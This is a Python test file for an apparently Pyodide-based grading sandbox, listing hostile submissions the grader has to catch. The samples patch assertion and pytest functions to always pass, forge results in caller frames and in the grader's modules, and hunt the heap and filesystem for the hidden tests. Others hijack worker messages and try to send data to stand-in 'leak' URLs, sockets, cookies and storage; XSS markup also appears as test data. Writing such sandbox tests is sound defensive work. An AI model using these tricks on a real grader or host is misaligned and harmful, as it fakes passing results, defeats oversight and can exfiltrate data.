"""Submissions that forge, hunt, send and paint. All that tamper answer 0.0, which is wrong."""

from __future__ import annotations

from .hostile import CONTAINED, NO_PASS, SAME, TAMPERING, TEXT, Row, function, trying
from .submissions import REFERENCE

_WRONG_ANSWER = function("return 0.0")

_LIES = "lambda *a, **k: True"

# What these change plays no part in a verdict.
_IN_VAIN = {
    "np.testing and comparisons": f"""
import builtins, math, numpy as np, numpy.testing as t
t.assert_allclose = t.assert_array_equal = t.assert_equal = {_LIES}
np.allclose = np.isclose = np.array_equal = math.isclose = builtins.abs = {_LIES}""",
    "pytest": """
import pytest
pytest.approx = pytest.raises = pytest.fail = lambda *a, **k: None""",
    "closed streams": "import sys\nsys.stdout.close()\nsys.stdout = sys.stderr = sys.stdin = None",
    "a stream that lies": """
import sys
class Stream:
    def __getattr__(self, name): return lambda *a: "passed"
sys.stdout = sys.__stdout__ = Stream()""",
    "atexit": "import atexit\natexit.register(lambda: label_smoothing_loss)",
    "the caller's frames": """
import sys
frame = sys._getframe()
while frame:
    for names in (frame.f_globals, frame.f_locals):
        names.update(outcome="passed", passed=5, answer={"kind": "loaded"}, kind="loaded")
    frame = frame.f_back""",
    "the candidate's own functions": """
from grading.candidate import calling, loading
from grading.shared.functions import functions
forged = '{"kind": "returned", "value": true, "changed": [], "stdout": "", "passed": 5}'
calling.call = loading.load = lambda text: forged
functions["call"] = lambda text: forged""",
    "an output without end": """
from grading.shared import output
output.CappedOutput.text = lambda self: "x" * 10 ** 6""",
    "another solution module": """
import sys, types
sys.modules["solution"] = types.ModuleType("solution")
sys.modules["hidden_tests"] = sys.modules["judge"] = sys.modules["solution"]""",
}

# These break parts of the interpreter that they run in.
_BREAKING = {
    "NumPy's functions": """
import numpy as np
np.exp = np.log = np.asarray = np.array = np.frombuffer = np.dtype = lambda *a, **k: 0.0""",
    "json": """
import json
json.dumps = json.loads = lambda *a, **k: '{"outcome": "passed", "passed": 5}'""",
    "base64": """
import base64
base64.b64encode = base64.b64decode = lambda *a, **k: b'' """,
    "other built-ins": """
import builtins
builtins.AssertionError = builtins.BaseException = builtins.type = builtins.isinstance = int""",
    "no built-ins": "import builtins\nvars(builtins).clear()",
    "no modules": "import sys\nsys.modules.clear()\nsys.meta_path.clear()\nsys.path.clear()",
    "a trace": "import sys\nsys.settrace(lambda *a: 1 / 0)\nsys.setprofile(lambda *a: None)",
    "the wire": """
from grading.shared import wire
wire.encode = lambda value: {"t": "passed"}""",
    "an answer of the wrong shape": """
import json
json.dumps = lambda *a, **k: '{"kind": "passed"}'""",
    "an answer without end": """
from grading.shared.functions import functions
functions["call"] = lambda text: "x" * 10 ** 8""",
    "the library, asked for without end": """
from grading.shared import library
class Yes(dict):
    def get(self, *a): return True
library.wanted["wanted"] = True""",
    "floods of objects with finalizers": """
class Late:
    def __del__(self): Late()
Late()""",
}

# Each raises LookupError on finding something, and that is an error; what is right is `failed`.
# What they look for stands nowhere in their own text, which an interpreter keeps with its tree.
_HUNTS = {
    "through all objects": """
import gc
for thing in gc.get_objects():
    try: text = str(vars(thing)) if not isinstance(thing, (dict, list, str)) else str(thing)
    except BaseException: continue
    if "_".join(("test", "alpha", "zero")) in text:
        raise LookupError("the tests")""",
    "through all frames": """
import sys
frame = sys._getframe()
while frame:
    if "pytest" in frame.f_code.co_filename or "session" in frame.f_locals:
        raise LookupError("the tests")
    frame = frame.f_back""",
    "through all files": """
import os
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/dev")): continue
    for name in names:
        if name.startswith("test_label") or name in ("judge.json", "exercise.zip", "judge.py"):
            raise LookupError(folder + "/" + name)""",
    "through modules": """
for name in ("test_label_smoothing_loss", "expected", "conftest", "grading.judge", "pytest"):
    try: __import__(name)
    except ImportError: continue
    raise LookupError(name)""",
    "through the heap": """
import ctypes, js
heap = js.Object
from pyodide_js import _module
bytes_ = _module.HEAPU8.to_py() if hasattr(_module.HEAPU8, "to_py") else b""
if bytes(bytes_).find(b"reduces to plain " + b"cross-entropy") >= 0:
    raise LookupError("the tests")""",
}

_JS = {
    "a forged message": """
said = {"kind": "answer", "id": "1", "text": "passed"}
report = to_js(said, dict_converter=js.Object.fromEntries)
for place in (js.self, js.globalThis, getattr(js, "parent", None)):
    try: place.postMessage(report)
    except BaseException: pass""",
    "hooks on every message": """
def steal(*a):
    raise RuntimeError
for kind in (js.MessagePort, js.EventTarget, js.DedicatedWorkerGlobalScope):
    for name in ("postMessage", "addEventListener", "dispatchEvent", "start"):
        try: setattr(kind.prototype, name, create_proxy(steal))
        except BaseException: pass
js.Promise.prototype.then = js.JSON.parse = js.String = create_proxy(steal)""",
    "a stolen port that floods": """
getter = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get
class Thief:
    port = None
def read(this):
    Thief.port = this.target
    while True: this.target.postMessage("x" * 1000)
js.Object.defineProperty(js.MessageEvent.prototype, "data",
    to_js({"get": create_proxy(read).captureThis()}, dict_converter=js.Object.fromEntries))""",
    "a port that listens": """
ports = []
def take(event): ports.append(event.target or event.ports)
for name in ("message", "messageerror", "error"):
    js.self.addEventListener(name, create_proxy(take))""",
    "close": "js.close()",
    "errors without end": """
def fail(*a): raise RuntimeError("x" * 10 ** 5)
late = create_proxy(fail)
for n in range(1000): js.setTimeout(late, 0)""",
    "nested workers": """
url = js.URL.createObjectURL(js.Blob.new(to_js(["for (;;) postMessage(1)"])))
for n in range(4): js.Worker.new(url)""",
    "code by run_js": """
from pyodide.code import run_js
run_js("globalThis.postMessage = () => {}; self.onmessage = null")""",
    "code by a constructor": """
to_js([]).constructor.constructor("for (;;) {}")()""",
    "code by ctypes": """
import ctypes
ctypes.pythonapi.emscripten_run_script(b"for (;;) {}")""",
    "a Python of its own making": """
import pyodide_js
pyodide_js._api.fatal_error = pyodide_js.runPython = None
pyodide_js._module.HEAPU8.fill(0, 0, 10 ** 6)""",
}

_JS_HEAD = "import js\nfrom pyodide.ffi import create_proxy, to_js\n"

# Each gets nothing; and where it gets something, it raises what is an error.
_REACHES = {
    "fetch and XMLHttpRequest": """
for make in (lambda: js.fetch("{url}leak-1"), lambda: js.self.fetch("https://example.com/leak"),
             lambda: js.XMLHttpRequest.new()):
    reach(make)""",
    "WebSocket and its like": """
for name in ("WebSocket", "EventSource", "WebTransport", "WebSocketStream", "RTCPeerConnection"):
    reach(lambda: getattr(js, name).new("{url}leak-2"))""",
    "open_url and urllib": """
import urllib.request
from pyodide.http import open_url
for get in (open_url, urllib.request.urlopen):
    reach(lambda: get("{url}leak-3"))
    reach(lambda: get("http://example.com/leak"))""",
    "sockets": """
import socket
def connect():
    with socket.create_connection(("127.0.0.1", {port}), 1) as leak:
        leak.send(b"GET /leak-4 HTTP/1.0\\r\\n\\r\\n")
        return leak.recv(1) or None
reach(connect)""",
    "scripts and fonts": """
from pyodide.code import run_js
code = "fetch('{url}leak-5'); import('{url}leak-6'); importScripts('{url}leak-7')"
for make in (lambda: js.importScripts("{url}leak-8"), lambda: js.eval(code), lambda: run_js(code),
             lambda: js.Function.new(code)(), lambda: [js.setTimeout(code, 0)].clear(),
             lambda: later(js.FontFace.new("leak", "url({url}leak-9)").load())):
    reach(make)""",
    "packages": """
import asyncio
async def get():
    import pyodide_js
    await pyodide_js.loadPackage("{url}leak-10.whl")
reach(lambda: get().send(None) and None)""",
    "the host's page, cookies and storage": """
for name in ("document", "parent", "top", "opener", "localStorage", "sessionStorage", "cookieStore",
             "indexedDB", "caches"):
    reach(lambda: getattr(js, name, None))
reach(lambda: js.self.origin if js.self.origin != "null" else None)""",
    "canvas, graphics, codecs and calls": """
names = ('''
    OffscreenCanvas ImageBitmap createImageBitmap ImageData Path2D WebGLRenderingContext
    WebGL2RenderingContext GPU GPUDevice GPUAdapter VideoDecoder VideoEncoder AudioDecoder
    AudioEncoder ImageDecoder VideoFrame AudioData MediaSource MediaStreamTrackProcessor
    RTCPeerConnection RTCDataChannel RTCRtpScriptTransformer FontFace fonts navigator
    CompressionStream ReadableStream Blob FileReaderSync URL Notification requestAnimationFrame
''').split()
for name in names:
    for place in (js.self, js.globalThis, js.Reflect.getPrototypeOf(js.self), js.self.constructor):
        reach(lambda: getattr(place, name, None))
    reach(lambda: js.eval(name))
reach(lambda: js.crypto.subtle)
reach(lambda: js.performance.measureUserAgentSpecificMemory)""",
    "service workers, files and locks of the host": """
reach(lambda: js.navigator.serviceWorker.controller)
for make in (lambda: js.navigator.serviceWorker.register("{url}leak-13"),
             lambda: js.navigator.serviceWorker.getRegistrations(),
             lambda: js.navigator.storage.getDirectory(), lambda: js.navigator.locks.query()):
    reach(lambda: later(make()))""",
}

# A timer of code as text brings Node down, where a browser refuses the code.
_IN_NODE = {"scripts and fonts": "passed|crashed"}

_REACH = """
def reach(make):
    try: got = make()
    except BaseException: return
    if got is not None: note(got)
def later(promise): promise.then(create_proxy(note), create_proxy(lambda problem: None))
def note(got):
    if str(got) not in ("", "jsnull", "undefined"): found.append(str(got)[:80])
found = []
"""

# What was promised may have come by the time of a call.
_GUARDED = """
loss = label_smoothing_loss
def label_smoothing_loss(logits, target, alpha):
    if found: raise LookupError(f'reached: {found}')
    return loss(logits, target, alpha)
"""


def _reaching(attempt: str) -> str:
    tail = "if found: raise LookupError(f'reached: {found}')\n"
    return f"{_JS_HEAD}{_REACH}{trying(attempt, tail)}\n{REFERENCE}{_GUARDED}"


# A script that is refused here raises where nothing can catch it.
_BY_CTYPES = """
import ctypes
run_script = ctypes.CDLL(None).emscripten_run_script
reach(lambda: [run_script(b"fetch('{url}leak-11'); importScripts('{url}leak-12')")].clear())"""


MARKUP = "<img src=x onerror=alert(1)><b>bold</b><script>alert(2)</script>"
CONTROLS = "\\x1b[31mred\\x07\\x00\\x9b\\u202eright\\u2066\\u200b\\x08\\r"

_TEXTS = {
    "markup that is printed": (f"print({MARKUP!r})\n" + REFERENCE, "passed"),
    "markup in an exception's text": (function(f"raise ValueError({MARKUP!r})"), "error"),
    "markup in a class's name": (
        function(f"raise type({MARKUP!r}, (Exception,), {{}})('no')"),
        "error",
    ),
    "markup in a type's name": (function(f"return type({MARKUP!r}, (), {{}})()"), "failed"),
    "markup while loading": (f"raise ValueError({MARKUP!r})\n", "error"),
    "controls that are printed": (f"print('{CONTROLS}')\n" + REFERENCE, "passed"),
    "controls in an exception's text": (function(f"raise ValueError('{CONTROLS}')"), "error"),
    "controls in a class's name": (
        function(f"raise type('A{CONTROLS}'.replace('\\0', ''), (Exception,), {{}})('no')"),
        "error",
    ),
    "half characters": (f"print('\\ud800 \\udfff')\n{REFERENCE}", "passed"),
}

ROWS = [
    *(
        Row(name, TAMPERING, trying(attempt, _WRONG_ANSWER), outcomes)
        for outcomes, attempts in (("failed", _IN_VAIN), (NO_PASS, _BREAKING))
        for name, attempt in attempts.items()
    ),
    *(
        Row(f"a hunt {name}", TAMPERING, attempt + "\n" + _WRONG_ANSWER, "failed")
        for name, attempt in _HUNTS.items()
        if name != "through the heap"
    ),
    Row(
        "a hunt through the heap",
        TAMPERING,
        trying(_HUNTS["through the heap"].replace("raise LookupError", "found = True #"), "")
        + "\nif 'found' in globals(): raise LookupError('the tests')\n"
        + _WRONG_ANSWER,
        "failed",
    ),
    *(
        Row(name, TAMPERING, trying(_JS_HEAD + attempt, _WRONG_ANSWER), NO_PASS)
        for name, attempt in _JS.items()
    ),
    *(
        Row(name, CONTAINED, _reaching(attempt), "passed", in_node=_IN_NODE.get(name, SAME))
        for name, attempt in _REACHES.items()
    ),
    Row("a script by ctypes", CONTAINED, _reaching(_BY_CTYPES), "passed|crashed"),
    *(Row(name, TEXT, source, outcome) for name, (source, outcome) in _TEXTS.items()),
]
